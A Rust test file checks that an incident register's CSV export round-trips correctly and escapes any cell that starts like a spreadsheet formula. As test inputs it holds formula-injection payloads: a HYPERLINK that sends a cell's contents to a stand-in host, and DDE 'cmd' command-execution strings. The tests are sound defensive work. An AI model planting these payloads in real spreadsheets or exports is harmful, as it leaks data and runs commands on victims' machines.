//! The list as CSV: a foreign reader finds what was written, and no cell begins like a formula.

use proptest::prelude::*;
use watchbook::{
    domain::{severity::Severity, stamp::Stamp, state::State},
    log::id::Digest,
    register::{
        csv::{COLUMNS, csv, guard, unguard},
        incident::IncidentRow,
        versions::Conflict,
    },
};

fn row(title: &str) -> IncidentRow {
    IncidentRow {
        id: Digest::of(title),
        reference: "IN-4K7T-9QXM".into(),
        title: title.into(),
        state: State::Confirmed,
        severity: Some(Severity::ALL[1]),
        category: "malware".into(),
        coordinator: title.into(),
        events: 2,
        opened: Stamp::new(1_795_000_000, 60),
        updated: Stamp::new(1_795_000_060, -330),
        parallel: Conflict::Open,
        merged_into: None,
        aside: false,
    }
}

/// The cells as the csv crate reads them, line by line.
fn read(file: &str, separator: u8) -> Vec<Vec<String>> {
    let mut reader = ::csv::ReaderBuilder::new();
    let reader = reader.has_headers(false).flexible(separator != b',');
    let mut reader = reader.delimiter(separator).from_reader(file.as_bytes());
    let line = |line: Result<::csv::StringRecord, ::csv::Error>| {
        let line = line.expect("a line of CSV");
        line.iter().map(str::to_owned).collect()
    };
    reader.records().map(line).collect()
}

/// Whether a spreadsheet may calculate it: said in other words than the guard's own.
fn is_calculated(cell: &str) -> bool {
    if cell.starts_with('\'') {
        return false;
    }
    let shown = cell.trim_start_matches([' ', '"', '\'', '\u{a0}', '\u{feff}', '\u{200b}']);
    let signs = "=+-@＝＋－＠\t\r\n\0";
    shown
        .chars()
        .next()
        .is_some_and(|first| signs.contains(first))
}

#[test]
fn a_list_is_read_by_a_foreign_program_as_it_was_written() {
    let file = csv(&[row("A list, \"in\" the printer"), row("Two\nlines")]);
    assert!(file.starts_with("\"reference\",\"title\",\"state\",\"severity\","));
    assert!(file.ends_with("\"\r\n") && !file.starts_with('\u{feff}'));
    let lines = read(&file, b',');
    assert_eq!(lines.len(), 3);
    assert_eq!(lines[0], COLUMNS);
    let id = guard(&Digest::of("A list, \"in\" the printer").to_string());
    let first = [
        "IN-4K7T-9QXM",
        "A list, \"in\" the printer",
        State::Confirmed.name(),
        Severity::ALL[1].name(),
        "malware",
        "A list, \"in\" the printer",
        "2",
        "2026-11-18T12:06:40+01:00",
        "2026-11-18T05:37:40-05:30",
        "has",
        "",
        &id,
    ];
    assert_eq!(lines[1], first);
    assert_eq!(lines[2][1], "Two\nlines");
    assert_eq!(csv(&[]).lines().count(), 1, "an empty list has its columns");
}

#[test]
fn what_begins_like_a_formula_is_guarded_and_nothing_else() {
    for (text, guarded) in [
        ("=1+1", "'=1+1"),
        ("+49 30 5550100", "'+49 30 5550100"),
        ("-5 degrees", "'-5 degrees"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\nx", "'\nx"),
        ("\0=x", "'\0=x"),
        ("＝1", "'＝1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠x", "'＠x"),
        ("  =1", "'  =1"),
        ("\u{a0}=1", "'\u{a0}=1"),
        ("\u{feff}=1", "'\u{feff}=1"),
        ("\"=1\"", "'\"=1\""),
        ("' =1", "'' =1"),
        ("'", "''"),
        ("'quoted'", "''quoted'"),
        // Where a program set to semicolons begins a cell.
        ("a;=1", "a;'=1"),
        ("a; \"+1\"", "a;' \"+1\""),
        ("a;'b", "a;''b"),
        ("a\n@x", "a\n'@x"),
        ("a\n\n@x", "a\n\n'@x"),
        // These are texts.
        ("", ""),
        ("a=b", "a=b"),
        ("a - b", "a - b"),
        (" 'quoted'", " 'quoted'"),
        ("a; b;", "a; b;"),
        ("IN-4K7T-9QXM", "IN-4K7T-9QXM"),
        ("2026-11-18T12:06:40+01:00", "2026-11-18T12:06:40+01:00"),
    ] {
        assert_eq!(guard(text), guarded, "{text:?}");
        assert_eq!(unguard(guarded), text, "{guarded:?}");
    }
}

#[test]
fn hostile_texts_come_back_and_none_is_calculated() {
    let formulas = [
        "=HYPERLINK(\"http://a.invalid/?\"&A1,\"more\")",
        "=cmd|' /C calc'!A0",
        "a\";=cmd|' /C calc'!A0;\"",
        "\"=1+1\"",
        "\",\"=1+1",
        "\r\n=1+1",
        "x\r\n\"=1+1\",",
        "\u{200b}=1+1",
        "''=1+1",
        ";;;@x",
    ];
    let texts: Vec<&str> = naughty_strings::BLNS
        .iter()
        .chain(&formulas)
        .copied()
        .collect();
    assert!(texts.len() > 400);
    let rows: Vec<IncidentRow> = texts.iter().map(|text| row(text)).collect();
    let file = csv(&rows);
    let lines = read(&file, b',');
    assert_eq!(lines.len(), texts.len() + 1);
    for (line, text) in lines[1..].iter().zip(&texts) {
        assert_eq!(
            (unguard(&line[1]), unguard(&line[5])),
            ((*text).to_owned(), (*text).to_owned())
        );
        for cell in line {
            assert!(!is_calculated(cell), "{cell:?}");
        }
    }
    // Programs that are set to other separators cut in other places.
    for separator in [b';', b'\t'] {
        for cell in read(&file, separator).concat() {
            assert!(!is_calculated(&cell), "{cell:?}");
        }
    }
}

/// Texts full of what matters here.
fn text() -> impl Strategy<Value = String> {
    let letter = prop_oneof![
        3 => prop::sample::select("=+-@＝＋－＠'\"; \t\r\n,a\0\u{feff}\u{200b}".chars().collect::<Vec<_>>()),
        1 => any::<char>(),
    ];
    prop::collection::vec(letter, 0..24).prop_map(String::from_iter)
}

proptest! {
    #[test]
    fn guarding_is_undone_for_every_text(text in text()) {
        let guarded = guard(&text);
        prop_assert_eq!(unguard(&guarded), text.clone());
        prop_assert!(!is_calculated(&guarded), "{:?}", guarded);
        let lines = read(&csv(&[row(&text)]), b',');
        prop_assert_eq!(lines.len(), 2);
        prop_assert_eq!(unguard(&lines[1][1]), text);
    }
}
